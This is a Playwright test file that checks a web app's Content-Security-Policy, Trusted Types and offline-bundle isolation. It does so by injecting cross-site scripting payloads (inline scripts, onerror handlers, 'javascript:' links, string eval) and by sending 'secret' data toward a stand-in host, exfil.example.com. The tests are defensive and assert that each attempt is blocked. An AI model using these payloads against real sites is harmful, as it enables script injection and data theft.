"""The page half of hostile input: nothing runs that the page did not ship, and the
saved bundle needs no network. The page and the worker come with a CSP header
(the page also with the same <meta>); an injected inline script, inline
handler or eval does not run; neither the page nor the worker can fetch a
host the CSP does not list. The offline bundle loads, diagnoses and exports
with every non-loopback request failing twice over (a route and a Chromium
host-resolver rule)."""

from __future__ import annotations

import functools
import http.server
import socket
import subprocess
import sys
import threading
import urllib.request
import zipfile
from urllib.parse import urlparse

import pytest
from playwright.sync_api import expect

from conftest import CHROMIUM_ARGS, load_server_module
from e2e.hostile_kit import Watch, html_report_problems, markdown_report_problems
from e2e.pagekit import ensure_diagnosis, load_example
from fake_llm import FakeLLM
from helpers import ROOT, Egress, wait_ready

UNLISTED = "https://exfil.example.com/collect?d=secret"


def csp_of(page) -> str:
    return page.evaluate(
        "() => document.querySelector('meta[http-equiv=Content-Security-Policy]').getAttribute('content')")


def norm_csp(value: str) -> list[str]:
    return [" ".join(d.split()) for d in value.split(";") if d.strip()]


def test_page_and_worker_are_served_with_the_csp(context, site):
    headers = {}
    context.on("response", lambda r: headers.setdefault(urlparse(r.url).path, r.headers))
    page = context.new_page()
    page.goto(site.url)
    wait_ready(page)
    page.evaluate("async () => { await navigator.serviceWorker.ready; }")  # registered once the engine is ready
    meta = norm_csp(csp_of(page))
    assert "script-src 'self' 'wasm-unsafe-eval'" in meta and "object-src 'none'" in meta
    connect = next(d for d in meta if d.startswith("connect-src"))
    assert "*" not in connect.replace("localhost:*", "").replace("127.0.0.1:*", "")
    for path in ("/", "/start.js", "/worker.mjs", "/app.mjs", "/sw.js"):
        assert path in headers, f"{path} not loaded"
        # the header adds what a <meta> cannot carry: frame-ancestors
        assert norm_csp(headers[path].get("content-security-policy", "")) == meta + ["frame-ancestors 'none'"], path
        assert headers[path].get("x-content-type-options") == "nosniff"
        assert headers[path].get("x-frame-options") == "DENY"


INJECT_JS = """async () => {
  const violations = [];
  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
  const later = (fn, ms = 0) => new Promise((r) => setTimeout(() => r(fn()), ms));
  const tried = {};
  const attempt = (name, fn) => { try { fn(); tried[name] = 'done'; } catch (e) { tried[name] = e.name; } };
  const added = [];
  const add = (node) => { document.body.append(node); added.push(node); return node; };
  // an inline script: its text as a string (a Trusted Types sink), then as a text node
  attempt('scriptText', () => { add(document.createElement('script')).textContent = 'window.__pwned = 1'; });
  attempt('scriptNode', () => { const s = document.createElement('script');
                                s.append(document.createTextNode('window.__pwned = 1')); add(s); });
  // inline handlers, through innerHTML and through an attribute
  attempt('innerHTML', () => { add(document.createElement('div')).innerHTML =
    '<img src="data:," onload="window.__pwned2 = 1"><img src=x onerror="window.__pwned2 = 1">'; });
  attempt('handler', () => { add(document.createElement('img')).setAttribute('onerror', 'window.__pwned2 = 1'); });
  // a script from another host: as a string, and through the page's own Trusted Types policy
  attempt('externalSrc', () => { add(document.createElement('script')).src = 'https://exfil.example.com/x.js'; });
  attempt('externalPolicy', () => { add(document.createElement('script')).src =
    self.roledoctorWorker.scriptURL('https://exfil.example.com/x.js'); });
  // string code, run from a timer (code evaluated by the test itself is exempt from the CSP)
  attempt('timer', () => setTimeout('window.__pwned3 = 1', 0));
  const evals = await later(() => {
    const out = {};
    try { eval('window.__pwned3 = 1'); out.eval = 'ran'; } catch (e) { out.eval = e.name; }
    try { new Function('window.__pwned3 = 1')(); out.fn = 'ran'; } catch (e) { out.fn = e.name; }
    const a = document.createElement('a');
    a.href = 'javascript:window.__pwned3 = 1';
    document.body.append(a);
    a.click();
    a.remove();
    return out;
  }, 20);
  await later(() => null, 300);
  for (const node of added) node.remove();
  return { pwned: [window.__pwned ?? null, window.__pwned2 ?? null, window.__pwned3 ?? null], violations, tried, ...evals };
}"""


def test_injected_inline_script_does_not_run(context, site):
    egress = Egress(context, site.url)
    seen = []
    context.on("request", lambda q: seen.append(q.url))
    page = context.new_page()
    page.goto(site.url)
    wait_ready(page)
    r = page.evaluate(INJECT_JS)
    assert r["pwned"] == [None, None, None], r
    assert r["eval"] == "EvalError" and r["fn"] == "EvalError", r
    # Trusted Types refuse every string sink outright...
    for sink in ("scriptText", "innerHTML", "handler", "externalSrc", "externalPolicy", "timer"):
        assert r["tried"][sink] in ("TypeError", "done"), r
    assert r["tried"]["scriptText"] == r["tried"]["innerHTML"] == r["tried"]["externalSrc"] == "TypeError", r
    assert r["tried"]["externalPolicy"] == "TypeError", r  # the page's policy passes only its own URLs
    assert "require-trusted-types-for" in r["violations"], r
    # ...and a script built from a text node still meets the CSP or Trusted Types when it would run
    assert r["tried"]["scriptNode"] == "done" and len(r["violations"]) >= 4, r
    # the external script never got as far as a request
    assert not [u for u in seen if "exfil.example.com" in u], seen
    assert not [u for u in egress.blocked if "exfil" in u]


FETCH_JS = """async ([url, method]) => {
  const violations = [];
  const scope = typeof document === 'undefined' ? self : document;
  scope.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
  let outcome;
  const init = method === 'GET' ? {} : { method, body: '{"d": "secret"}' };
  try { const r = await fetch(url, init); outcome = 'sent: ' + r.status; }
  catch (e) { outcome = 'blocked: ' + e.name; }
  await new Promise((r) => setTimeout(r, 200));
  return { outcome, violations };
}"""


def test_page_cannot_fetch_an_unlisted_host(context, site):
    llm = FakeLLM()
    try:
        routed = []  # what reached the network stage (the CSP stops a request before it)

        def record(route):
            routed.append(route.request.url)
            return route.abort() if "exfil.example.com" in route.request.url else route.continue_()

        context.route("**/*", record)
        failed = []
        context.on("requestfailed", lambda q: failed.append((q.url, q.failure)))
        page = context.new_page()
        page.goto(site.url)
        wait_ready(page)
        r = page.evaluate(FETCH_JS, [UNLISTED, "POST"])
        assert r["outcome"].startswith("blocked"), r
        assert "connect-src" in r["violations"], r
        img = page.evaluate("""() => new Promise((res) => { const i = new Image();
            i.onload = () => res('loaded'); i.onerror = () => res('blocked');
            i.src = 'https://exfil.example.com/pixel.png?d=secret'; })""")
        assert img == "blocked"
        page.wait_for_timeout(200)
        # stopped by the CSP before the network: the route (which records and aborts) never saw them
        assert not [u for u in routed if "exfil.example.com" in u], routed
        assert [f for u, f in failed if "exfil.example.com" in u] == ["csp"], failed
        # the control: a listed origin (loopback, any port: where local LLM servers live) is reachable
        ok = page.evaluate(FETCH_JS, [llm.url + "/v1/chat/completions", "POST"])
        assert ok["outcome"].startswith("sent"), ok
        assert llm.url + "/v1/chat/completions" in routed
    finally:
        llm.stop()


# run from a timer: code evaluated by the test itself is exempt from the CSP
EVAL_JS = """() => new Promise((resolve) => setTimeout(() => {
  const out = {};
  try { eval('1 + 1'); out.eval = 'ran'; } catch (e) { out.eval = e.name; }
  try { new Function('return 1')(); out.fn = 'ran'; } catch (e) { out.fn = e.name; }
  resolve(out);
}, 0))"""


def worker_fetch(browser, url) -> tuple[dict, dict, list[str]]:
    """What the page's Pyodide worker gets when it fetches UNLISTED and when it
    evals a string, and what reached the network."""
    context = browser.new_context(service_workers="block")
    try:
        egress = Egress(context, url)  # records and aborts what reaches the network stage
        page = context.new_page()
        page.goto(url)
        wait_ready(page)  # Pyodide started under the policy (its wasm needs 'wasm-unsafe-eval')
        (worker,) = page.workers  # the one dedicated worker: the Pyodide worker
        result = worker.evaluate(FETCH_JS, [UNLISTED, "POST"])
        evals = worker.evaluate(EVAL_JS)
        # the control: the worker can fetch from its own origin
        own = worker.evaluate(FETCH_JS, [url + "pyodide-lock.json", "GET"])
        assert own["outcome"] == "sent: 200", own
        return result, evals, [u for u in egress.seen + egress.blocked if "exfil.example.com" in u]
    finally:
        context.close()


def test_worker_cannot_fetch_an_unlisted_host(browser, site):
    """The Pyodide worker holds the unredacted text and the placeholder map: it
    may neither fetch a host the CSP does not list nor eval a string."""
    result, evals, reached = worker_fetch(browser, site.url)
    assert result["outcome"].startswith("blocked") and "connect-src" in result["violations"], result
    assert evals == {"eval": "EvalError", "fn": "EvalError"}, evals
    assert reached == []


def test_worker_is_covered_by_the_meta_policy_on_a_host_without_headers(browser, dist):
    """A static host that sends no header: a worker loaded by its URL would run
    with no policy at all. Started from a blob: module (which inherits the
    page's policy, https://www.w3.org/TR/CSP3/#initialize-global-object-csp),
    it is bound by the <meta> too."""
    serve = load_server_module()

    class NoHeaders(serve.Handler):
        def end_headers(self):
            http.server.SimpleHTTPRequestHandler.end_headers(self)

    server = serve.Server(("127.0.0.1", 0), functools.partial(NoHeaders, directory=str(dist)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/"
        with urllib.request.urlopen(url + "worker.mjs") as r:
            assert r.headers.get("Content-Security-Policy") is None  # the server really sends none
        result, evals, reached = worker_fetch(browser, url)
        assert result["outcome"].startswith("blocked") and "connect-src" in result["violations"], result
        assert evals == {"eval": "EvalError", "fn": "EvalError"}, evals
        assert reached == []
    finally:
        server.shutdown()
        server.server_close()


# ---- the offline bundle, with the network gone

def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def bundle(tmp_path_factory):
    out = tmp_path_factory.mktemp("bundle")
    proc = subprocess.run([sys.executable, str(ROOT / "build.py"), "bundle", "--no-build", "--out", str(out)],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    (zpath,) = out.glob("*.zip")
    with zipfile.ZipFile(zpath) as zf:
        names = zf.namelist()
        assert not [n for n in names if n.startswith("/") or ".." in n.split("/")], "unsafe paths in the zip"
        zf.extractall(out / "unzipped")
    (top,) = (out / "unzipped").iterdir()
    port = free_port()
    server = subprocess.Popen([sys.executable, "serve.py", "--port", str(port)], cwd=top,
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        assert "http://127.0.0.1:" in server.stdout.readline()
        yield f"http://127.0.0.1:{port}/"
    finally:
        server.terminate()
        server.wait(timeout=10)


@pytest.fixture(scope="module")
def no_network_browser(browser, chromium_path):
    """A second Chromium in which no host name but 127.0.0.1 resolves."""
    b = browser.browser_type.launch(executable_path=chromium_path, args=CHROMIUM_ARGS + [
        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"])
    yield b
    b.close()


def test_offline_bundle_with_no_network(no_network_browser, bundle, tmp_path):
    context = no_network_browser.new_context(accept_downloads=True)
    aborted, seen = [], []

    def only_loopback(route):
        host = urlparse(route.request.url).hostname
        if urlparse(route.request.url).scheme in ("http", "https", "ws", "wss") and host != "127.0.0.1":
            aborted.append(route.request.url)
            return route.abort("internetdisconnected")
        return route.continue_()

    context.route("**/*", only_loopback)
    context.on("request", lambda r: seen.append(r.url))
    try:
        # the flag works: a real host does not resolve
        probe = context.new_page()
        context.unroute("**/*")
        with pytest.raises(Exception, match="ERR_NAME_NOT_RESOLVED"):
            probe.goto("http://example.com/", timeout=15_000)
        probe.close()
        context.route("**/*", only_loopback)
        seen.clear()

        page = context.new_page()
        watch = Watch(page)
        page.goto(bundle)
        wait_ready(page)
        load_example(page)
        assert ensure_diagnosis(page), "the bundle has no diagnosis engine"
        region = page.get_by_role("region", name="Diagnosis")
        expect(region.locator(".verdict-word").first).to_have_text("Denied")
        for name, check in (("Export report as Markdown", markdown_report_problems),
                            ("Export report as HTML", lambda t: html_report_problems(t)[0])):
            with page.expect_download() as dl:
                region.get_by_role("button", name=name).click()
            path = tmp_path / dl.value.suggested_filename
            dl.value.save_as(path)
            text = path.read_text(encoding="utf-8")
            assert "TRUST_PRINCIPAL_MISSING" in text and check(text) == []
        assert aborted == [], aborted
        assert [u for u in seen if urlparse(u).scheme in ("http", "https") and urlparse(u).hostname != "127.0.0.1"] == []
        watch.assert_clean("the offline bundle")
    finally:
        context.unroute_all(behavior="ignoreErrors")  # the service worker may still be precaching
        context.close()
